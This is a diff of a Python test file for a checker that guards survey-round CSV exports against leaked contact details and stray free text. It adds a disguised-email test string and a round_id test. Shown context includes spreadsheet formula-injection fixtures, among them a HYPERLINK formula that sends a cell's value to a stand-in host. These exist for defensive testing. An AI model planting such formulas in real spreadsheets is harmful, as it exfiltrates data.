@@ -41,6 +41,7 @@ DISGUISED = [
     "m u s a @ g m a i l . c o m", "musa＠ngo.org", "ｍｕｓａ＠ｎｇｏ．ｏｒｇ",
     "zero eight zero three five five five zero one nine nine",
     "zéro huit zéro trois cinq cinq cinq zéro un neuf neuf",
+    "m u s a a t g m a i l d o t c o m",  # "at" and "dot" spelled out like the rest
 ]
 #: What a spreadsheet program runs as a formula, as the security review typed them.
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bakassi")', '=WEBSERVICE("http://x.example")',
@@ -115,6 +116,17 @@ def test_a_leading_zero_in_a_coordinate_is_refused_but_a_decimal_is_not(policy):
 
 
 # --- 4. one contact detector, for the contract and for redaction -------------------------------
+
+
+def test_a_round_column_holding_anything_but_a_round_id_blocks_the_round(tmp_path, capsys):
+    """A round column declares no pattern: free text typed there (found by the junk property)
+    shipped in every package, as every package carries the round's id."""
+    export = tmp_path / "NGA-R007-partial.csv"
+    _round(**_with("round_id", 2, "KI Musa, call him")).to_csv(export, index=False)
+    code, out = _check_round(export, capsys)
+    assert code == 1
+    assert "column 'round_id': does not match the declared pattern in 1 row(s): 4" in out
+    assert "Musa" not in out
 
 
 @pytest.mark.parametrize("contact", DISGUISED)
